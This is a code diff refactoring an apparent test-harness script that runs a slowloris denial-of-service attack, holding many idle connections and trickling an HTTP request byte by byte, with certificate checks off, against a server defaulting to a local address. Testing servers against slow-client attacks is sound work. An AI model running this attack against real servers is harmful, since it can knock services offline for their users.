@@ -25,65 +25,29 @@ from __future__ import annotations
 import argparse
 import asyncio
 import json
-import resource
-import signal
 import ssl
 import sys
 import time
-from typing import Protocol
+
+from attackclient import Connections, raise_fd_limit  # this script's folder: run as a script
 
 HALF_REQUEST = b"GET /metrics HTTP/1.1\r\nHost: x\r\n"
 FULL_REQUEST = HALF_REQUEST + b"User-Agent: slowloris\r\n\r\n"
 
 
-def raise_fd_limit(need: int) -> None:
-    """Raise the soft RLIMIT_NOFILE towards ``need`` (never above the hard limit)."""
-    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
-    want = need if hard == resource.RLIM_INFINITY else min(need, hard)
-    if soft != resource.RLIM_INFINITY and soft < want:
-        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
-
-
-class Holder(Protocol):
-    ready: asyncio.Event
-    stopping: bool
-
-
-async def hold(attack: Holder, tasks: list[asyncio.Task[None]], duration: float) -> None:
-    """Print ``ready`` once ``attack.ready`` is set (the attacking connections are up), then
-    hold them until SIGTERM or ``duration``; set ``attack.stopping`` and cancel them. Shared
-    by this script and tests/wrongpass.py (run as scripts: imported by their folder)."""
-
-    async def announce() -> None:
-        await attack.ready.wait()
-        print("ready", flush=True)
-
-    announcer = asyncio.create_task(announce())
-    stop = asyncio.Event()
-    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
-    stopper = asyncio.create_task(stop.wait())
-    await asyncio.wait([stopper], timeout=duration)
-    attack.stopping = True
-    for task in [*tasks, announcer, stopper]:
-        task.cancel()
-    await asyncio.gather(*tasks, announcer, stopper, return_exceptions=True)
-
-
-class Attack:
+class Attack(Connections):
     def __init__(self, args: argparse.Namespace) -> None:
+        super().__init__(args.source, args.idle + args.trickle)
         self.args = args
         self.stats = {"opened": 0, "closed_by_server": 0, "errors": 0}
-        self.attempted = 0
-        self.stopping = False
-        self.ready = asyncio.Event()
         self.ctx: ssl.SSLContext | None = None
         if args.tls:
             self.ctx = ssl.create_default_context()
             self.ctx.check_hostname = False
             self.ctx.verify_mode = ssl.CERT_NONE
-        self.total = (args.idle + args.trickle) * len(args.source)
 
-    async def one(self, source: str, trickle: bool, deadline: float) -> None:
+    async def one(self, source: str, i: int, deadline: float) -> None:
+        trickle = i >= self.args.idle
         first = True
         while time.monotonic() < deadline and not self.stopping:
             writer = None
@@ -98,12 +62,12 @@ class Attack:
                 self.stats["opened"] += 1
                 if first:
                     first = False
-                    self._tried()
+                    self.tried()
                 if trickle:
-                    for i in range(len(FULL_REQUEST)):
+                    for at in range(len(FULL_REQUEST)):
                         if self.stopping:  # (3.11's wait_for can swallow a cancellation)
                             break
-                        writer.write(FULL_REQUEST[i : i + 1])
+                        writer.write(FULL_REQUEST[at : at + 1])
                         await writer.drain()
                         # a closed connection shows as EOF; wait up to a second for it
                         try:
@@ -129,25 +93,9 @@ class Attack:
             finally:
                 if first:
                     first = False
-                    self._tried()
+                    self.tried()
                 if writer is not None:
                     writer.transport.abort()
-
-    def _tried(self) -> None:
-        self.attempted += 1
-        if self.attempted == self.total:
-            self.ready.set()
-
-    async def run(self) -> None:
-        deadline = time.monotonic() + self.args.duration
-        per_source = self.args.idle + self.args.trickle
-        tasks = [
-            asyncio.create_task(self.one(source, i >= self.args.idle, deadline))
-            for source in self.args.source
-            for i in range(per_source)
-        ]
-
-        await hold(self, tasks, self.args.duration)
 
 
 def main(argv: list[str] | None = None) -> int:
@@ -165,7 +113,7 @@ def main(argv: list[str] | None = None) -> int:
     args.source = args.source or ["127.0.0.2"]
     raise_fd_limit((args.idle + args.trickle) * len(args.source) + 256)
     attack = Attack(args)
-    asyncio.run(attack.run())
+    asyncio.run(attack.attack(attack.one, args.duration))
     print(json.dumps(attack.stats), flush=True)
     return 0
 
